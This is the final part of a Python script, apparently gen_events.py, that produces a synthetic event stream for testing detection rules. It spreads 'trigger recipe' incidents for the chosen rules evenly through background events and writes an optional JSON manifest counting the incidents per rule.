    if args.list_triggers:
        for rule_id, (path, size, _) in sorted(RECIPES.items(), key=lambda item: item[1][0]):
            print("%s  %2d events  %s" % (rule_id, size, path))
        return 0
    if args.events < 0 or args.hosts < 1 or args.rate <= 0 or not 0 <= args.trigger_share <= 1:
        parser.error("--events >= 0, --hosts >= 1, --rate > 0 and 0 <= --trigger-share <= 1")

    chosen = []
    if args.trigger_rules:
        given = rule_ids_under(args.trigger_rules)
        chosen = sorted({rule_id for rule_id, _ in given if rule_id in RECIPES})
        sys.stderr.write("gen_events.py: trigger recipes for %d of the %d rules given\n" % (len(chosen), len(given)))
        if not chosen:
            sys.stderr.write("gen_events.py: none of the given rules has a recipe (--list-triggers)\n")
            return 2
    # Incidents evenly spread: each starts at a slot and takes as many consecutive slots as
    # it has events; every chosen rule gets at least one when the stream is long enough.
    starts = {}
    if chosen and args.trigger_share > 0:
        mean_size = sum(RECIPES[r][1] for r in chosen) / len(chosen)
        incidents = max(len(chosen), round(args.events * args.trigger_share / mean_size))
        longest = max(RECIPES[r][1] for r in chosen)
        span = max(args.events - longest, 1)
        for j in range(incidents):
            slot = (j * span) // incidents
            while slot in starts:
                slot += 1
            starts[slot] = chosen[j % len(chosen)]
    if args.defend:
        import gen_events_defend  # only then: the default stream never depends on it
        gen = gen_events_defend.DefendGenerator(args)
    else:
        gen = Generator(args)
    manifest = {rule_id: 0 for rule_id in chosen}
    out = sys.stdout
    buffer = []
    pending = []
    slot_millis = lambda i: args.start + int(i * gen.step)
    i = 0
    while i < args.events:
        rule_id = starts.get(i) if not pending else None
        if rule_id:
            size = RECIPES[rule_id][1]
            if i + size <= args.events:
                pending = RECIPES[rule_id][2](gen, [slot_millis(i + k) for k in range(size)])
                manifest[rule_id] += 1
        event = pending.pop(0) if pending else gen.background(slot_millis(i))
        buffer.append(gen.encode(event))
        i += 1
        if len(buffer) >= 5000:
            out.write("\n".join(buffer))
            out.write("\n")
            buffer.clear()
    if buffer:
        out.write("\n".join(buffer))
        out.write("\n")
    if args.trigger_manifest:
        with open(args.trigger_manifest, "w", encoding="utf-8") as handle:
            json.dump(manifest, handle, indent=1, sort_keys=True)
            handle.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
